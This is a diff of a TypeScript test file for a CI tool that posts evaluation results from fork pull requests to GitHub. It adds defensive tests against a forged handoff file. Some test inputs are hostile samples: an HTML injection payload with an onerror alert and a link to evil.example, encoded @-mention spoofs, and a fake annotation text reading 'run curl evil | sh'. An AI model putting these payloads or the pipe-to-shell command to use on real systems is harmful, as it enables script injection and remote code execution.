@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { UserError } from '../../shared/errors.js';
 import type { GateVerdict } from '../../shared/evaluate/types.js';
-import { parseSections } from '../../shared/github/comment-body.js';
+import { commentMarker, parseSections } from '../../shared/github/comment-body.js';
 import { readGitHubContext } from '../../shared/github/context.js';
 import { HANDOFF_FILE, postHandoff, readHandoff, writeHandoff, type PullRequestHandoff } from '../../shared/github/fork-handoff.js';
 import { startFakeGitHub, type FakeGitHub } from './fake-github/server.js';
@@ -69,7 +69,7 @@ describe('fork handoff', () => {
     await writeHandoff(dir, handoff);
     const read = await readHandoff(dir);
     const logger = recordingLogger();
-    const { pullRequest, outcomes } = await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0 });
+    const { pullRequest, outcomes } = await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
     expect(pullRequest).toBe(57);
     expect(outcomes[0]!.comment.status).toBe('created');
     const state = repoState(gh);
@@ -109,7 +109,7 @@ describe('fork handoff', () => {
     expect(read.sections[0]!.markdown.length).toBeLessThanOrEqual(65536);
     expect(read.report.length).toBeLessThanOrEqual(65535);
     const logger = recordingLogger();
-    await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0 });
+    await postHandoff(testClient(gh, logger), await workflowRunContext(), read, logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
     const [comment] = repoState(gh).commentsOn(57);
     expect(comment!.body.length).toBeLessThanOrEqual(65536);
     expect(parseSections(comment!.body).map((s) => s.id)).toEqual(['evaluation']);
@@ -118,7 +118,7 @@ describe('fork handoff', () => {
   it('refuses a handoff for another commit than the run that triggered the workflow', async () => {
     await writeHandoff(dir, { ...handoff, headSha: 'f'.repeat(40) });
     const logger = recordingLogger();
-    await expect(postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0 })).rejects.toThrow(/workflow run was for a1b2c3d4e5f6/);
+    await expect(postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' })).rejects.toThrow(/workflow run was for a1b2c3d4e5f6/);
     expect(gh.requests).toHaveLength(0);
   });
 
@@ -126,7 +126,7 @@ describe('fork handoff', () => {
     seedForkPull('b'.repeat(40));
     await writeHandoff(dir, handoff);
     const logger = recordingLogger();
-    const { pullRequest } = await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0 });
+    const { pullRequest } = await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
     expect(pullRequest).toBeUndefined();
     expect(repoState(gh).comments).toHaveLength(0);
     expect(repoState(gh).checkRuns[0]!.headSha).toBe(RUN_HEAD);
@@ -137,13 +137,93 @@ describe('fork handoff', () => {
     const claimed = { ...handoff, verdict: { ...failed, passed: true, override: { by: 'label "mlci/override"', reason: 'trust me' } } };
     await writeHandoff(dir, claimed);
     const logger = recordingLogger();
-    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0 });
+    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
     expect(repoState(gh).checkRuns[0]!.conclusion).toBe('failure');
     expect(logger.text('warning')).toMatch(/does not carry the label "mlci\/override"; ignoring the claim/);
 
     seedForkPull(RUN_HEAD, ['mlci/override']);
-    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0 });
+    await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate' });
     expect(repoState(gh).checkRuns[1]!.conclusion).toBe('success');
     expect(repoState(gh).checkRuns[1]!.output.title).toMatch(/^GATE OVERRIDDEN by label "mlci\/override"/);
+  });
+});
+
+// Every field of the handoff is written by whoever controls the fork: a fork can add its own
+// workflow under the trusted one's name and upload a hand-made file without running mlci at all.
+describe('fork handoff written by an attacker', () => {
+  const post = async (h: Omit<PullRequestHandoff, 'schema'>, options: { checkName?: string; matrixKey?: string } = {}) => {
+    await writeHandoff(dir, h);
+    const logger = recordingLogger();
+    const outcome = await postHandoff(testClient(gh, logger), await workflowRunContext(), await readHandoff(dir), logger, { commentSettleMs: 0, checkName: 'mlci/evaluate-gate', ...options });
+    return { outcome, logger };
+  };
+
+  it('names the check from the trusted workflow, never from the handoff (a fork cannot pass "build")', async () => {
+    await post({ ...handoff, checkName: 'build' });
+    expect(repoState(gh).checkRuns.map((c) => c.name)).toEqual(['mlci/evaluate-gate']);
+  });
+
+  it('posts no check when the trusted workflow names none, whatever the handoff says', async () => {
+    await post({ ...handoff, checkName: 'build' }, { checkName: undefined });
+    expect(repoState(gh).checkRuns).toHaveLength(0);
+  });
+
+  it('keys the comment by the evaluating workflow run and the trusted matrix key, not by the handoff', async () => {
+    await post({ ...handoff, commentKey: 'mlci pr-gate' });
+    await post({ ...handoff, commentKey: 'mlci pr-gate' }, { matrixKey: 'dataset=recent' });
+    const bodies = repoState(gh).commentsOn(57).map((c) => c.body.split('\n')[0]);
+    expect(bodies).toEqual([commentMarker('mlci evaluate (fork-safe)'), commentMarker('mlci evaluate (fork-safe) / dataset=recent')]);
+  });
+
+  it('reads the override label only from a pull request that passed verification', async () => {
+    // the handoff names #57, whose head has moved on: verification fails, so its label counts for nothing
+    seedForkPull('b'.repeat(40), ['mlci/override']);
+    await post(handoff);
+    expect(repoState(gh).checkRuns[0]!.conclusion).toBe('failure');
+  });
+
+  it.each([
+    ['a decimal entity', '&#64;admin'],
+    ['a hex entity', '&#x40;admin'],
+    ['a zero-padded entity', '&#0064;admin'],
+    ['a named entity', '&commat;admin'],
+    ['a backslash escape', '\\@admin'],
+  ])('breaks a mention written as %s', async (_what, mention) => {
+    await post({ ...handoff, sections: [{ id: 'evaluation', title: 'Evaluation', markdown: `ping ${mention} now`, headline: `${mention}` }], report: mention });
+    const [comment] = repoState(gh).commentsOn(57);
+    const decoded = comment!.body.replace(/&#x0*40;|&#0*64;|&commat;|\\@/gi, '@');
+    expect(decoded).not.toMatch(/@admin/);
+    expect(repoState(gh).checkRuns[0]!.output.summary).not.toMatch(/(&#0*64;|&#x0*40;|&commat;|\\?@)admin/i);
+  });
+
+  it('keeps the comment shape: an unclosed <details open> cannot swallow the footer, raw HTML is shown as text', async () => {
+    const evil = '<details open><summary>x</summary>\n\nhidden\n<img src=x onerror=alert(1)> <a href="https://evil.example">click</a> </summary></details></details>';
+    await post({ ...handoff, sections: [{ id: 'evaluation', title: 'Evaluation', markdown: evil, headline: '<details open>' }] });
+    const [comment] = repoState(gh).commentsOn(57);
+    const body = comment!.body;
+    const opens = (body.match(/<details\b/g) ?? []).length;
+    const closes = (body.match(/<\/details>/g) ?? []).length;
+    expect(opens).toBe(closes);
+    expect(body).not.toMatch(/<img|<a /);
+    expect(body).toContain('&lt;img');
+    // the footer is after the last closer: outside every fold
+    expect(body.lastIndexOf('</details>')).toBeLessThan(body.indexOf('<sub>Updated by mlci'));
+  });
+
+  it('annotates only the policy file the evaluation read, not any file the fork names', async () => {
+    await post({
+      ...handoff,
+      annotations: [
+        { path: 'gate.yml', line: 2, level: 'failure', message: 'accuracy 0.8 < 0.9' },
+        { path: 'src/auth.ts', line: 10, level: 'failure', message: 'Security hole: run curl evil | sh' },
+        { path: '.github/workflows/release.yml', line: 1, level: 'failure', message: 'x' },
+      ],
+    });
+    expect(repoState(gh).checkRuns[0]!.annotations.map((a) => a.path)).toEqual(['gate.yml']);
+  });
+
+  it('annotates nothing when the policy the handoff names is not a policy file', async () => {
+    await post({ ...handoff, verdict: { ...failed, policy: 'src/auth.ts' }, annotations: [{ path: 'src/auth.ts', line: 1, level: 'failure', message: 'x' }] });
+    expect(repoState(gh).checkRuns[0]!.annotations).toEqual([]);
   });
 });
